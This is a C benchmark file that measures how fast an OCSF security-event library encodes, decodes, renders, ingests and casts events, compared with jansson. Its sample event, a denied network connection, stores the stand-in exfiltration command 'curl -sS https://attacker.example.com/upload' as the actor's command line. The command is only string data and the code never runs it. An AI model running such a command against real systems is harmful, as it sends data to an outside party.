/*
 * bench_ocsf.c: how fast the OCSF hot path is, on one core, in one run.
 *
 * One realistic NET:OPEN denied event is encoded, built and dumped with
 * jansson, copied with memcpy (the limit), rendered as a CLI line and
 * decoded. Each row runs for BENCH_SECONDS (default 0.5) and reports the
 * best of 3 repetitions. A benchmark, not a test: it prints numbers and
 * exits 0 whatever they are; it exits 1 only when an operation fails.
 * See bench/README.md.
 */
#include <inttypes.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/utsname.h>
#include <time.h>
#include <unistd.h>

#include <jansson.h>

#include "ocsf/ocsf.h"

#define REPS       3
#define BATCH      64 /* operations between two clock reads */
#define GOAL_RATE  1e6
#define GOAL_RATIO 5.0

#ifndef __has_feature
#define __has_feature(x) 0
#endif
#if defined(__SANITIZE_ADDRESS__) || __has_feature(address_sanitizer)
#define SANITIZED 1
#else
#define SANITIZED 0
#endif
#if defined(__GNUC__) && !defined(__clang__)
#define COMPILER "gcc " __VERSION__ /* gcc's __VERSION__ is the bare number */
#else
#define COMPILER __VERSION__
#endif

typedef struct {
    ocsf_event_t ev;
    ocsf_buf_t out;    /* reused output buffer (len reset per operation) */
    ocsf_buf_t json;   /* the event's JSON, encoded once */
    ocsf_buf_t json18; /* the same event as OCSF 1.8.0 (metadata.version) */
    ocsf_checker_t *checker;
    size_t line_len; /* the event's CLI line */
    bool failed;
} bench_t;

typedef void (*batch_fn)(bench_t *b, size_t n);

static volatile uint64_t sink; /* every row feeds it so no work is dropped */

/* Tells the compiler the n bytes at p are read, so the work that wrote them
 * stays, and feeds the sink. */
static inline void keep(const char *p, size_t n)
{
    __asm__ volatile("" : : "r"(p) : "memory");
    sink += n + (unsigned char)p[0];
}

static uint64_t now_ns(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000000000u + (uint64_t)ts.tv_nsec;
}

/* ---- the event ----------------------------------------------------------- */

#define T0 1795737600123LL /* 2026-11-27T00:00:00.123Z */

static const ocsf_product_t proxy = {OCSF_STR("tollgate-proxy"), OCSF_STR(TOLLGATE_VENDOR),
                                     OCSF_STR(TOLLGATE_VERSION)};

static void build_event(ocsf_event_t *ev)
{
    ocsf_event_init(ev);
    ocsf_event_begin(ev, OCSF_CLASS_NETWORK, OCSF_NET_OPEN, OCSF_SEV_INFO, T0, &proxy);
    ev->actor.pid = 1310;
    ev->actor.name = OCSF_STR("curl");
    ev->actor.cmd_line = OCSF_STR("curl -sS https://attacker.example.com/upload");
    ocsf_process_set_file(
        &ev->actor, OCSF_STR("/usr/bin/curl"),
        OCSF_STR("5f1b1a0e4f5d8c2e7b9a3c6d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b"));
    ev->dst.domain = OCSF_STR("attacker.example.com");
    ev->dst.ip = OCSF_STR("203.0.113.7");
    ev->dst.port = 443;
    ocsf_event_verdict(ev, false, OCSF_NOSTR, OCSF_STR("policy"),
                       OCSF_STR("endpoint attacker.example.com:443 is not allowed"));
    ev->device_hostname = OCSF_STR("devbox");
    ev->device_type_id = OCSF_DEVICE_SERVER;
    ev->container_name = OCSF_STR("default");
    ev->container_uid = OCSF_STR("sbx-7f3a9c1e");
    const uint8_t rnd[16] = {0x9e, 0x10, 0x42, 0x7c, 0x33, 0x01, 0xa5, 0x5a,
                             0x81, 0x18, 0x27, 0x36, 0x45, 0x54, 0x63, 0x72};
    ocsf_uuid_v4(rnd, ev->uid);
    ev->sequence = 1310;
    ev->logged_time = T0 + 2;
    ev->log_name = OCSF_STR("sandbox");
}

/* ---- the same event as a jansson tree ------------------------------------ */

/* Absent values are left out, as the encoder does. */
static void jstr(json_t *o, const char *k, ocsf_str_t s)
{
    if (s.p)
        json_object_set_new(o, k, json_stringn(s.p, s.n));
}

static void jint(json_t *o, const char *k, int64_t v)
{
    if (v != OCSF_NONE)
        json_object_set_new(o, k, json_integer(v));
}

/* A caption through the public API, per event like the encoder's own. */
static ocsf_str_t cap(const ocsf_event_t *ev, const char *attr, int64_t id)
{
    return ocsf_str(ocsf_caption(ev->class_uid, attr, id));
}

static json_t *j_process(const ocsf_process_t *p)
{
    json_t *hash = json_object(), *file = json_object(), *proc = json_object();
    jstr(hash, "algorithm", OCSF_STR("SHA-256"));
    jint(hash, "algorithm_id", OCSF_HASH_SHA256);
    jstr(hash, "value", p->sha256);
    json_t *hashes = json_array();
    json_array_append_new(hashes, hash);
    json_object_set_new(file, "hashes", hashes);
    jstr(file, "name", p->file_name);
    jstr(file, "path", p->path);
    jstr(file, "type", OCSF_STR("Regular File"));
    jint(file, "type_id", OCSF_FILE_REGULAR);
    jstr(proc, "cmd_line", p->cmd_line);
    json_object_set_new(proc, "file", file);
    jstr(proc, "name", p->name);
    jint(proc, "pid", p->pid);
    jstr(proc, "uid", p->uid);
    return proc;
}

static json_t *j_device(const ocsf_event_t *ev)
{
    json_t *dev = json_object(), *ctr = json_object();
    jstr(ctr, "name", ev->container_name);
    jstr(ctr, "uid", ev->container_uid);
    json_object_set_new(dev, "container", ctr);
    jstr(dev, "hostname", ev->device_hostname);
    jstr(dev, "ip", ev->device_ip);
    jstr(dev, "type", OCSF_STR("Server"));
    jint(dev, "type_id", ev->device_type_id);
    return dev;
}

static json_t *j_metadata(const ocsf_event_t *ev)
{
    json_t *md = json_object(), *prod = json_object(), *prof = json_array();
    jstr(md, "log_name", ev->log_name);
    jint(md, "logged_time", ev->logged_time);
    jstr(prod, "name", ev->product.name);
    jstr(prod, "vendor_name", ev->product.vendor_name);
    jstr(prod, "version", ev->product.version);
    json_object_set_new(md, "product", prod);
    json_array_append_new(prof, json_string("container"));
    json_array_append_new(prof, json_string("host"));
    json_array_append_new(prof, json_string("security_control"));
    json_object_set_new(md, "profiles", prof);
    jint(md, "sequence", ev->sequence);
    jstr(md, "uid", ocsf_str(ev->uid));
    jstr(md, "version", OCSF_STR("1.7.0"));
    return md;
}

static json_t *j_event(const ocsf_event_t *ev)
{
    json_t *o = json_object(), *actor = json_object(), *dst = json_object(), *rule = json_object();
    jstr(o, "action", cap(ev, "action_id", ev->action_id));
    jint(o, "action_id", ev->action_id);
    jint(o, "activity_id", ev->activity_id);
    jstr(o, "activity_name", cap(ev, "activity_id", ev->activity_id));
    json_object_set_new(actor, "process", j_process(&ev->actor));
    json_object_set_new(o, "actor", actor);
    jstr(o, "category_name", OCSF_STR("Network Activity"));
    jint(o, "category_uid", 4);
    jstr(o, "class_name", ocsf_str(ocsf_class_name(ev->class_uid)));
    jint(o, "class_uid", ev->class_uid);
    json_object_set_new(o, "device", j_device(ev));
    jstr(o, "disposition", cap(ev, "disposition_id", ev->disposition_id));
    jint(o, "disposition_id", ev->disposition_id);
    jstr(dst, "domain", ev->dst.domain);
    jstr(dst, "ip", ev->dst.ip);
    jint(dst, "port", ev->dst.port);
    json_object_set_new(o, "dst_endpoint", dst);
    jstr(rule, "name", ev->rule_name);
    jstr(rule, "type", ev->rule_type);
    jstr(rule, "uid", ev->rule_uid);
    json_object_set_new(o, "firewall_rule", rule);
    json_object_set_new(o, "metadata", j_metadata(ev));
    jstr(o, "severity", cap(ev, "severity_id", ev->severity_id));
    jint(o, "severity_id", ev->severity_id);
    jstr(o, "status_detail", ev->status_detail);
    jint(o, "time", ev->time);
    jstr(o, "type_name", cap(ev, "type_uid", ev->activity_id));
    jint(o, "type_uid", (int64_t)ev->class_uid * 100 + ev->activity_id);
    return o;
}

static char *jansson_dump(const bench_t *b)
{
    json_t *root = j_event(&b->ev);
    char *s = json_dumps(root, JSON_COMPACT | JSON_SORT_KEYS);
    json_decref(root);
    return s;
}

/* ---- the rows: each runs n operations ------------------------------------ */

static void run_encode(bench_t *b, size_t n)
{
    char err[128];
    for (size_t i = 0; i < n; i++) {
        b->out.len = 0;
        b->failed |= ocsf_encode(&b->ev, &b->out, err, sizeof err) != 0;
        keep(b->out.p, b->out.len);
    }
}

static void run_jansson(bench_t *b, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        char *s = jansson_dump(b);
        b->failed |= !s;
        if (s)
            keep(s, 1);
        free(s);
    }
}

static void run_memcpy(bench_t *b, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        memcpy(b->out.p, b->json.p, b->json.len);
        keep(b->out.p, b->json.len);
    }
}

static void run_render(bench_t *b, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        b->out.len = 0;
        b->failed |= ocsf_render_json(b->json.p, b->json.len, OCSF_LINE_CLI, &b->out, NULL, 0) != 0;
        keep(b->out.p, b->out.len);
    }
}

/* The ingest path of POST /v1/events per line: tokenize, check against
 * the event's own version, prepare the record, SHA-256 for dedup. */
static void run_ingest(bench_t *b, size_t n)
{
    char err[256];
    ocsf_ingest_t in;
    for (size_t i = 0; i < n; i++) {
        b->failed |= ocsf_ingest(b->checker, b->json.p, b->json.len, 0, &in, err, sizeof err) != 0;
        keep((const char *)in.digest, in.at);
    }
}

/* What the old ingest paid first: a jansson tree of the line. */
static void run_jparse(bench_t *b, size_t n)
{
    json_error_t e;
    for (size_t i = 0; i < n; i++) {
        json_t *j = json_loadb(b->json.p, b->json.len, 0, &e);
        b->failed |= j == NULL;
        keep((const char *)j, 1);
        json_decref(j);
    }
}

static void cast_to(bench_t *b, size_t n, const ocsf_buf_t *src, const char *to)
{
    char err[256];
    const ocsf_schema_t *s = ocsf_schema_find(to, strlen(to));
    for (size_t i = 0; i < n; i++) {
        b->out.len = 0;
        b->failed |= ocsf_cast(b->checker, src->p, src->len, s, 0, &b->out, err, sizeof err) != 0;
        keep(b->out.p, b->out.len);
    }
}

static void run_cast13(bench_t *b, size_t n)
{
    cast_to(b, n, &b->json, "1.3.0");
}

static void run_cast18(bench_t *b, size_t n)
{
    cast_to(b, n, &b->json18, "1.7.0");
}

static void run_cast_same(bench_t *b, size_t n)
{
    cast_to(b, n, &b->json, "1.7.0");
}

static void run_decode(bench_t *b, size_t n)
{
    char err[256];
    ocsf_event_t ev;
    for (size_t i = 0; i < n; i++) {
        b->failed |= ocsf_decode(b->json.p, b->json.len, &ev, err, sizeof err) != 0;
        keep(ev.uid, (size_t)ev.dst.port);
        ocsf_event_dispose(&ev);
    }
}

/* Best ns per operation over REPS runs of at least `secs` each. */
static double measure(batch_fn fn, bench_t *b, double secs)
{
    uint64_t budget = (uint64_t)(secs * 1e9);
    double best = 0;
    fn(b, BATCH); /* warm caches and the allocator */
    for (int r = 0; r < REPS && !b->failed; r++) {
        uint64_t ops = 0, t0 = now_ns(), dt;
        do {
            fn(b, BATCH);
            ops += BATCH;
            dt = now_ns() - t0;
        } while (dt < budget && !b->failed);
        double ns = (double)dt / (double)ops;
        if (r == 0 || ns < best)
            best = ns;
    }
    return best;
}

/* ---- output -------------------------------------------------------------- */

/* 1234567 -> "1,234,567" */
static const char *commas(double v, char *out, size_t cap)
{
    char digits[32];
    int n = snprintf(digits, sizeof digits, "%.0f", v);
    size_t o = 0;
    for (int i = 0; i < n && o + 2 < cap; i++) {
        if (i > 0 && (n - i) % 3 == 0)
            out[o++] = ',';
        out[o++] = digits[i];
    }
    out[o] = '\0';
    return out;
}

static void row(const char *name, const char *unit, double ns, size_t bytes)
{
    char num[40];
    double rate = 1e9 / ns;
    printf("  %-20s %13s %-7s %9.1f ns/ev  %8.1f MB/s\n", name, commas(rate, num, sizeof num), unit,
           ns, rate * (double)bytes / 1e6);
}

static void goal(const char *name, double value, double want, const char *unit)
{
    char a[40], w[40];
    if (unit[0] == 'x')
        printf("  %-20s %12.1fx   (goal >= %.0fx: %s)\n", name, value, want,
               value >= want ? "PASS" : "MISS");
    else
        printf("  %-20s %13s %-7s (goal >= %s: %s)\n", name, commas(value, a, sizeof a), unit,
               commas(want, w, sizeof w), value >= want ? "PASS" : "MISS");
}

static void cpu_model(char *out, size_t cap)
{
    char line[256];
    snprintf(out, cap, "unknown");
    FILE *f = fopen("/proc/cpuinfo", "r");
    if (!f)
        return;
    while (fgets(line, sizeof line, f)) {
        char *colon = strchr(line, ':');
        /* x86 says "model name", some arm64 kernels only "Model" */
        if (colon && (strncmp(line, "model name", 10) == 0 || strncmp(line, "Model", 5) == 0)) {
            colon += strspn(colon + 1, " \t") + 1;
            snprintf(out, cap, "%.*s", (int)strcspn(colon, "\n"), colon);
            break;
        }
    }
    fclose(f);
}

static void print_machine(void)
{
    char cpu[128], date[64];
    struct utsname u;
    time_t t = time(NULL);
    struct tm tm;
    cpu_model(cpu, sizeof cpu);
    if (uname(&u) != 0)
        memset(&u, 0, sizeof u);
    if (!gmtime_r(&t, &tm) || !strftime(date, sizeof date, "%Y-%m-%d %H:%M UTC", &tm))
        snprintf(date, sizeof date, "unknown");
    printf("machine\n  cpu       %s (%ld online, run pinned to cpu %d)\n"
           "  kernel    %s %s %s\n  compiler  %s%s\n  jansson   %s\n  date      %s\n\n",
           cpu, sysconf(_SC_NPROCESSORS_ONLN), sched_getcpu(), u.sysname, u.release, u.machine,
           COMPILER, SANITIZED ? "  (sanitizers on: numbers are not representative)" : "",
           JANSSON_VERSION, date);
}

/* ---- setup and main ------------------------------------------------------ */

static double bench_seconds(void)
{
    const char *s = getenv("BENCH_SECONDS");
    if (!s || !*s)
        return 0.5;
    char *end;
    double v = strtod(s, &end);
    if (*end || !(v > 0 && v <= 60)) {
        fprintf(stderr, "bench_ocsf: BENCH_SECONDS=%s: expected seconds in (0, 60]\n", s);
        return -1;
    }
    return v;
}

static void pin_to_this_cpu(void)
{
    cpu_set_t set;
    int cpu = sched_getcpu();
    if (cpu < 0)
        return;
    CPU_ZERO(&set);
    CPU_SET(cpu, &set);
    if (sched_setaffinity(0, sizeof set, &set) != 0)
        fprintf(stderr, "bench_ocsf: cannot pin to cpu %d; running unpinned\n", cpu);
}

/* Encodes once, checks jansson writes the same bytes and decode round-trips. */
static int setup(bench_t *b)
{
    char err[256];
    build_event(&b->ev);
    const ocsf_event_t *ev = &b->ev;
    if (ocsf_encode(ev, &b->json, err, sizeof err) != 0) {
        fprintf(stderr, "bench_ocsf: ocsf_encode: %s\n", err);
        return -1;
    }
    char *j = jansson_dump(b);
    if (!j) {
        fprintf(stderr, "bench_ocsf: jansson: out of memory\n");
        return -1;
    }
    bool same = strlen(j) == b->json.len && memcmp(j, b->json.p, b->json.len) == 0;
    free(j);
    ocsf_event_t back;
    if (ocsf_decode(b->json.p, b->json.len, &back, err, sizeof err) != 0) {
        fprintf(stderr, "bench_ocsf: ocsf_decode of our own JSON: %s\n", err);
        return -1;
    }
    bool round = ocsf_event_equal(&back, ev);
    ocsf_event_dispose(&back);
    if (ocsf_render_json(b->json.p, b->json.len, OCSF_LINE_CLI, &b->out, err, sizeof err) != 0) {
        fprintf(stderr, "bench_ocsf: ocsf_render_json of our own JSON: %s\n", err);
        return -1;
    }
    b->line_len = b->out.len;
    ocsf_buf_reserve(&b->out, b->json.len); /* memcpy's destination */
    /* the same event as a 1.8.0 producer sends it */
    const char *v = memmem(b->json.p, b->json.len, "\"version\":\"1.7.0\"", 17);
    if (!v) {
        fprintf(stderr, "bench_ocsf: no metadata.version in our own JSON\n");
        return -1;
    }
    ocsf_buf_put(&b->json18, b->json.p, b->json.len);
    memcpy(b->json18.p + (v - b->json.p) + 11, "1.8.0", 5);
    printf("event      NET:OPEN denied, class 4001: %zu bytes of JSON, %zu-byte CLI line\n",
           b->json.len, b->line_len);
    printf("line       %.*s\n", (int)b->line_len, b->out.p);
    printf("checks     jansson bytes %s ocsf_encode; decode round-trip %s\n\n",
           same ? "==" : "!= (ratio compares different output)", round ? "equal" : "DIFFERS");
    return 0;
}

int main(void)
{
    double secs = bench_seconds();
    if (secs < 0)
        return 2;
    pin_to_this_cpu();
    print_machine();
    bench_t b = {.failed = false};
    ocsf_buf_init(&b.out);
    ocsf_buf_init(&b.json);
    ocsf_buf_init(&b.json18);
    b.checker = ocsf_checker_new();
    int rc = 1;
    if (setup(&b) != 0)
        goto out;
    static const struct {
        const char *name, *unit;
        batch_fn fn;
    } rows[] = {
        {"ocsf encoder", "ev/s", run_encode},        {"jansson build+dump", "ev/s", run_jansson},
        {"memcpy (limit)", "ev/s", run_memcpy},      {"render CLI line", "lines/s", run_render},
        {"decode+dispose", "ev/s", run_decode},      {"ingest (check+digest)", "ev/s", run_ingest},
        {"jansson parse only", "ev/s", run_jparse},  {"cast 1.7.0 -> 1.3.0", "ev/s", run_cast13},
        {"cast 1.8.0 -> 1.7.0", "ev/s", run_cast18}, {"cast 1.7.0 -> 1.7.0", "ev/s", run_cast_same},
    };
    enum { NROWS = sizeof rows / sizeof *rows };
    double ns[NROWS];
    for (size_t i = 0; i < NROWS && !b.failed; i++)
        ns[i] = measure(rows[i].fn, &b, secs);
    if (b.failed) {
        fprintf(stderr, "bench_ocsf: an operation failed during the run\n");
        goto out;
    }
    printf("one core, best of %d x %.2f s per row\n", REPS, secs);
    for (size_t i = 0; i < NROWS; i++)
        row(rows[i].name, rows[i].unit, ns[i], rows[i].fn == run_render ? b.line_len : b.json.len);
    printf("\n");
    goal("ratio ours/jansson", ns[1] / ns[0], GOAL_RATIO, "x");
    printf("  %-20s %12.1fx   (the encoder costs that many copies of its output)\n",
           "ratio memcpy/ours", ns[0] / ns[2]);
    goal("encoder", 1e9 / ns[0], GOAL_RATE, "ev/s");
    goal("renderer", 1e9 / ns[3], GOAL_RATE, "lines/s");
    goal("ingest", 1e9 / ns[5], 200000, "ev/s");
    printf("  %-20s %12.1fx   (jansson's tree alone / the whole ingest check)\n",
           "ratio jansson/ingest", ns[6] / ns[5]);
    goal("cast to 1.3.0", 1e9 / ns[7], 200000, "ev/s");
    goal("cast 1.8.0 to 1.7.0", 1e9 / ns[8], 200000, "ev/s");
    printf("  (goals are informational; the exit status ignores them)\n");
    rc = 0;
out:
    ocsf_buf_dispose(&b.json);
    ocsf_buf_dispose(&b.json18);
    ocsf_buf_dispose(&b.out);
    ocsf_checker_free(b.checker);
    ocsf_event_dispose(&b.ev);
    return rc;
}
